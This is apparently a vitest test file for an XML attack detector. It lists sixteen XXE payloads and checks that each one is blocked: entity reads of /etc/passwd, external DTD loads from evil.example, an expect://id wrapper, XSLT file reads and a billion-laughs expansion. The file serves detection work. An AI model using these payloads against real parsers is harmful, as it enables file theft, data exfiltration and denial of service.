import { describe, expect, test } from 'vitest';
import { createValueInspector, type ValueAt } from '../testing/value.ts';
import { xmlDetector } from './detector.ts';

const inspect = createValueInspector([xmlDetector]);

describe('xmlDetector', () => {
  const attacks: readonly (readonly [string, string, ValueAt?])[] = [
    ['xxe', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]><r>&a;</r>'],
    ['xxe', '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>'],
    ['xxe', '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]>'],
    ['xxe', '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>'],
    ['xxe', '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;">]><lolz>&lol3;</lolz>'],
    ['xxe', '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE foo'],
    [
      'xxe',
      '<svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><text>&x;</text></svg>',
    ],
    ['xxe', '<xsl:value-of select="system-property(\'xsl:vendor\')"/>'],
    [
      'xxe',
      '<xsl:stylesheet><xsl:template match="/"><xsl:value-of select="document(\'/etc/passwd\')"/></xsl:template></xsl:stylesheet>',
    ],
    ['xxe', '<!ENTITY xxe PUBLIC "any" "http://evil.example/">'],
    ['xxe', '<!DOCTYPE a PUBLIC "-//B/A/EN" "http://evil.example/a.dtd">'],
    ['xxe', '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "expect://id">]>'],
    ['xxe', '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe "x">]><foo>&xxe;</foo>'],
    ['xxe', '<!DOCTYPE root [<!ENTITY % ext SYSTEM "http://e.example/e.dtd"> %ext;]><r></r>'],
    ['xxe', '<xi:include href="file:///etc/passwd" parse="text"/>'],
    ['xxe', '<soap:Body><foo><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM "http://e/"> %dtd;]><xxx/>]]></foo></soap:Body>'],
  ];

  test.each(attacks.map(([attackClass, text, at]) => ({ attackClass, text, at })))(
    '$attackClass: $text',
    ({ attackClass, text, at }) => {
      const { action, findings } = inspect(text, at);
      expect({ action, classes: [...new Set(findings.map((finding) => finding.class))] }).toMatchObject({
        action: 'block',
        classes: expect.arrayContaining([attackClass]),
      });
    },
  );
});
